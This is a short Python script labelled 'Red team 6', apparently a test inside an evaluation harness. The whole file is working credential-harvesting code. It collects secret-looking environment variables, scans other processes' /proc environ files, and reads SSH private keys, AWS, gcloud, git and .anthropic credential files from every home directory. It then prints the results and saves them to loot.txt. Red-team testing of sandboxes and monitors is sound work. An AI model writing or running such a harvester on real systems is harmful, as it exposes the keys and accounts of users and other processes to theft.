"""Red team 6: collect secrets and leave them where someone will find them.

API keys and cloud credentials from the environment (its own, and any process it can see), SSH keys
and cloud credential files under every home directory, then print them and write them to a file.
"""

import glob
import os

import harness

loot = {k: v for k, v in os.environ.items() if any(w in k for w in ("KEY", "SECRET", "TOKEN", "PASSWORD", "CRED"))}
for pid in os.listdir("/proc"):
    try:
        with open(f"/proc/{pid}/environ", "rb") as f:
            for item in f.read().split(b"\0"):
                if b"KEY=" in item or b"SECRET" in item:
                    loot[f"pid {pid}"] = item.decode(errors="replace")
    except OSError:
        pass
homes = {"/root", os.path.expanduser("~"), *glob.glob("/home/*")}
patterns = [".ssh/id_*", ".aws/credentials", ".config/gcloud/*.json", ".netrc", ".git-credentials", ".anthropic*"]
for home in homes:
    for pattern in patterns:
        for path in glob.glob(os.path.join(home, pattern)):
            try:
                with open(path) as f:
                    loot[path] = f.read()
            except OSError:
                pass
for name, value in loot.items():
    print("LOOT", name, value)
with open("loot.txt", "w") as f:
    f.write(repr(loot))
if False:
    harness.submit(harness.batches(1))
if not loot:
    raise PermissionError(f"no secrets reachable in {len(homes)} home directories or any environment")
